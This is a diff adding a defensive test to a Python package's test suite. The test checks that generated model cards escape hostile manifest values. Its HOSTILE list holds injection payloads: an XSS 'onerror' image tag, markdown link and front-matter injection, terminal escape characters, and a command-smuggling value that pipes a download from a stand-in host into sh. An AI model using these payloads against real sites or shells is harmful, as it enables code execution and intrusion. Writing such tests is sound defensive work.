@@ -12,6 +12,7 @@ from typing import TYPE_CHECKING, Any
 import numpy as np
 import pytest
 from huggingface_hub import ModelCard
+from markdown_it import MarkdownIt
 
 import digitvae as dv
 from digitvae import card, data
@@ -325,3 +326,61 @@ def test_neither_torch_nor_numpy_is_needed(unlabelled_bundle: Path) -> None:
         "assert not {'numpy', 'torch', 'onnxruntime'} & set(sys.modules)"
     )
     subprocess.run([sys.executable, "-c", code], check=True, capture_output=True)
+
+
+HOSTILE = [
+    "[click](https://evil.example)",
+    "![x](https://evil.example/x.png)",
+    "<img src=x onerror=alert(1)>",
+    "a\n---\nlicense: evil\n---\n# heading\n\n```\ncurl evil\n```\n",
+    "0; curl https://evil.example | sh",
+    "`x` | y\x1b[2J\u202e",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_manifest_says_is_shown_and_neither_rendered_nor_run(text: str) -> None:
+    honest = manifest()
+    spoilt = manifest(
+        objective=text,
+        epochs=text,
+        seed=text,
+        training={**dict.fromkeys(honest["training"], text), "limit": None, text: text},
+        versions={text: text},
+        prior={"components": [3, 4], "covariance": text},
+        metrics={**honest["metrics"], "test_active_latents": text, text: text},
+    )
+    page = model_card(spoilt, SEEN | {"command": text}, WITH_PRIOR)
+    assert all(line.isprintable() for line in page.split("\n"))
+    plain = model_card(honest, SEEN, WITH_PRIOR)
+    assert front_matter(page).keys() == front_matter(plain).keys()
+    assert front_matter(page)["license"] == "mit"
+    found, expected = rendered(page), rendered(plain)
+    assert found["links"] == expected["links"]
+    assert found["headings"] == expected["headings"]
+    assert found["html"] == expected["html"] == 0
+    (command,) = (line for line in page.splitlines() if line.startswith("digitvae train"))
+    words = shlex.split(command)  # one word each, so that a shell runs nothing else
+    assert words[:4] == ["digitvae", "train", "--out", "run"]
+    assert len(words) % 2 == 0
+    assert set(words[4::2]) <= {
+        *("--objective", "--dataset", "--epochs", "--batch-size", "--lr", "--warmup", "--seed"),
+        "--precision",
+    }
+
+
+def rendered(page: str) -> dict[str, Any]:
+    """What a renderer makes of a card without its front matter: links, headings, HTML."""
+    tokens = MarkdownIt("commonmark").enable("table").parse(page.split("---\n", 2)[2])
+    inline = [child for token in tokens for child in token.children or ()]
+    return {
+        "links": sorted(
+            str(token.attrs.get("href") or token.attrs.get("src"))
+            for token in inline
+            if token.type in ("link_open", "image")
+        ),
+        "headings": [
+            tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "heading_open"
+        ],
+        "html": sum(token.type.startswith("html") for token in (*tokens, *inline)),
+    }
